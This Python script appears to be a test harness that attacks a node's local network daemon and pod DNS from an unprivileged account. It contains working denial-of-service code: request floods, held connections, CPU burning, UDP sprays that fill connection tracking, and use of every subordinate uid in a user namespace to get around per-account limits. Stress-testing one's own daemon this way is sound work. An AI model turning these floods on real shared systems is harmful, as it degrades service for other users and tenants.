"""Attacks on a node's network daemon, run there as an ordinary user: standard library only.

    daemon_attacks.py ask                       packed lines on standard input, a line of reply each
    daemon_attacks.py partial                   the same, each line sent without its end; what comes back in 3 s
    daemon_attacks.py hold UIDS EACH SECONDS    open connections, by subordinate uids if UIDS > 0; how many are served
    daemon_attacks.py flood KIND SECONDS UIDS PROCESSES JOB    one of KINDS as fast as it goes; answers and CPU time
    daemon_attacks.py uids SECONDS HELD         each subordinate uid: a file, a packet, a connection; some a process
    daemon_attacks.py get SECONDS               ask every 20 ms; how long each took
    daemon_attacks.py resolve SECONDS NAME      in a pod, ask its DNS every 20 ms; how long each took

With UIDS it must be run below `unshare --user --map-root-user --map-auto`.
"""

import base64
import json
import os
import resource
import socket
import sys
import tempfile
import time
import zlib
from contextlib import suppress

TRIES = 100
SOCKET = "/run/isthmus/networkd.sock"
OWN_SOCKET = f"/run/isthmus/accounts/{os.getuid()}"


def line(op, **fields):
    """Return a request."""
    return json.dumps({"version": 1, "op": op, **fields}, separators=(",", ":")).encode() + b"\n"


def rows(count):
    """Return Services with many endpoints, which take long to read."""
    return [
        [f"10.96.{n // 250}.{n % 250 + 1}", "tcp", 80, 0, [f"10.64.0.{e + 1}:80" for e in range(60)]]
        for n in range(count)
    ]


KINDS = {
    "services": lambda turn, job: line("job_services", job=job, services=rows(110)),
    "status": lambda turn, job: line("status"),
    "short": lambda turn, job: b"\n",
    "get": lambda turn, job: line("job_get", job=job),
    "connect": lambda turn, job: b"",
    "own": lambda turn, job: b"",
    "churn": lambda turn, job: line("unreserve" if turn % 2 else "reserve", name=f"churn-{os.getpid()}"),
}


def connect(path=SOCKET):
    """Return a connection to the daemon."""
    connection = socket.socket(socket.AF_UNIX)
    connection.connect(path)
    connection.settimeout(10)
    return connection


def exchange(text, answer_s=30, path=SOCKET):
    """Send bytes on a connection of their own; return the reply's line."""
    with connect(path) as connection:
        connection.settimeout(answer_s)
        try:
            # A refusal may come, and the connection be closed, before all is sent.
            with suppress(BrokenPipeError, ConnectionResetError):
                connection.sendall(text)
            return connection.makefile("rb").readline()
        except OSError as error:
            return f"{type(error).__name__}\n".encode()


def ask(answer_s=30):
    """Send each line of standard input."""
    for text in sys.stdin:
        for _ in range(TRIES):
            reply = exchange(zlib.decompress(base64.b64decode(text)), answer_s)
            # An account over its rate of connections is not answered: it comes again.
            if reply.startswith(b"{"):
                break
            time.sleep(0.3)
        sys.stdout.write(reply.decode("ascii", "replace") or "closed\n")


def as_each(uids, work):
    """Run work in a process of each of so many uids, or in one as oneself; return what they return, summed."""
    readers = []
    for uid in range(1, uids + 1) if uids else [0]:
        reading, writing = os.pipe()
        readers.append(reading)
        if os.fork() == 0:
            if uid:
                os.setuid(uid)
            os.write(writing, str(work()).encode())
            os._exit(0)
        os.close(writing)
    return ended(readers)


def ended(readers):
    """Return what processes reported, summed, when all have ended: their CPU time is counted then."""
    reported = sum(int(os.fdopen(each).read() or 0) for each in readers)
    for _ in readers:
        os.wait()
    return reported


def hold(each, seconds):
    """Open connections and keep them; return how many were answered."""
    until, held, served = time.monotonic() + seconds, [], 0
    for _ in range(each):
        try:
            connection = connect()
            connection.settimeout(2)
            connection.sendall(line("job_get", job=4294967000))
            # An unknown account is not served.
            served += b'"ok":true' in connection.recv(1000)
            held.append(connection)
        except OSError:
            continue
    time.sleep(max(0, until - time.monotonic()))
    return served


def flood(kind, seconds, job):
    """Ask as fast as the answers come, on a new connection whenever one is closed; return the answers."""
    until, turn, answers, connection = time.monotonic() + seconds, 0, 0, None
    texts = [KINDS[kind](turn, job) for turn in range(2)]
    while time.monotonic() < until:
        try:
            connection = connection or connect(OWN_SOCKET if kind == "own" else SOCKET)
            connection.settimeout(max(0.1, until - time.monotonic()))
            connection.sendall(texts[turn % 2])
            turn += 1
            if not texts[0] or not connection.recv(65536):
                connection.close()
                connection = None
            else:
                answers += 1
        except OSError:
            connection = None
    return answers


def burn(seconds, share):
    """Take a share of one processor."""
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        begin = time.monotonic()
        while time.monotonic() - begin < share * 0.01:
            pass
        time.sleep(max(0, begin + 0.01 - time.monotonic()))
    return 0


def datagrams(seconds, address, ports):
    """Send UDP: to one port as long as it lasts, or once to each of many."""
    question = b"\x00\x01\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04name\x07invalid\x00\x00\x01\x00\x01"
    until, sent = time.monotonic() + seconds, 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.setblocking(False)
        while time.monotonic() < until and (len(ports) == 1 or sent < len(ports)):
            try:
                sender.sendto(question, (address, ports[sent % len(ports)]))
            except OSError:
                continue
            sent += 1
    time.sleep(max(0, until - time.monotonic()))
    return sent


def timed(seconds, ask):
    """Return how long answers took."""
    until, took = time.monotonic() + seconds, []
    while time.monotonic() < until:
        begin = time.perf_counter()
        ask()
        took.append(time.perf_counter() - begin)
        time.sleep(0.02)
    return took


def get():
    """Ask the daemon as a user's programs do: at the account's socket if there is one."""
    exchange(line("job_get", job=4294967000), path=OWN_SOCKET if os.access(OWN_SOCKET, os.W_OK) else SOCKET)


def resolve(name):
    """Ask a pod's DNS, which is where its packets go first; a second without an answer is one more try."""
    with open("/proc/net/route") as routes:
        gateway = next(words[2] for words in map(str.split, routes) if words[1] == "00000000")
    server = socket.inet_ntoa(bytes.fromhex(gateway)[::-1])
    question = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(1)
        while True:
            client.sendto(bytes.fromhex("000701000001000000000000") + question + b"\0\0\1\0\1", (server, 53))
            with suppress(TimeoutError):
                client.recv(512)
                return


def attack(kind, seconds, count, value):
    """Return what one process of a flood does."""
    if kind == "burn":
        return lambda: burn(seconds, value / 1000 / count)
    if kind == "held":
        return lambda: hold(count, seconds)
    if kind == "dns":
        return lambda: datagrams(seconds, "127.0.0.153", [53])
    if kind == "conntrack":
        return lambda: datagrams(seconds, "192.0.2.1", range(20_000, 22_000))
    return lambda: flood(kind, seconds, value)


def subordinate():
    """Return how many uids there are in this namespace."""
    with open("/proc/self/uid_map") as mapped:
        return sum(int(row.split()[2]) for row in mapped)


def as_every_uid(seconds, held):
    """Use every uid at once; return how many files they own, and how many of the held ones the daemon answered."""
    until, sent, tried = time.monotonic() + seconds, 0, 0
    with tempfile.TemporaryDirectory() as folder:
        os.chmod(folder, 0o777)  # noqa: S103 -- of whatever uid
        for uid in range(1, subordinate()):
            os.setresuid(uid, uid, 0)
            os.close(os.open(f"{folder}/{uid}", os.O_CREAT | os.O_WRONLY))
            with suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
                sent += bool(sender.sendto(b"x", ("192.0.2.1", uid)))
            with suppress(OSError), socket.socket(socket.AF_UNIX) as connection:
                connection.setblocking(False)
                connection.connect(SOCKET)
                tried += 1
            os.setresuid(0, 0, 0)
        owners = {os.stat(f"{folder}/{name}").st_uid for name in os.listdir(folder)}
        answered = as_each(held, lambda: hold(1, max(0, until - time.monotonic())))
        return {"uids": len(owners), "sent": sent, "connections": tried, "answered": answered}


def processes(count, work):
    """Run work in so many processes of one uid; return what they return, summed."""
    readers = []
    for _ in range(count):
        reading, writing = os.pipe()
        readers.append(reading)
        if os.fork() == 0:
            os.write(writing, str(work()).encode())
            os._exit(0)
        os.close(writing)
    return ended(readers)


def main():
    """Do what is asked for."""
    verb, *words = sys.argv[1:]
    if verb == "ask":
        ask()
    elif verb == "partial":
        ask(3)
    elif verb == "hold":
        uids, each, seconds = map(int, words)
        print(as_each(uids, lambda: hold(each, seconds)))
    elif verb == "uids":
        print(json.dumps(as_every_uid(float(words[0]), int(words[1]))))
    elif verb == "get":
        print(json.dumps(timed(float(words[0]), get)))
    elif verb == "resolve":
        print(json.dumps(timed(float(words[0]), lambda: resolve(words[1]))))
    elif verb == "flood":
        kind, seconds, (uids, count, value) = words[0], float(words[1]), map(int, words[2:])
        work = attack(kind, seconds, count, value)
        answers = as_each(uids, lambda: work() if kind == "held" else processes(count, work))
        used = resource.getrusage(resource.RUSAGE_CHILDREN)
        print(json.dumps({"answers": answers, "cpu_s": used.ru_utime + used.ru_stime}))


if __name__ == "__main__":
    main()
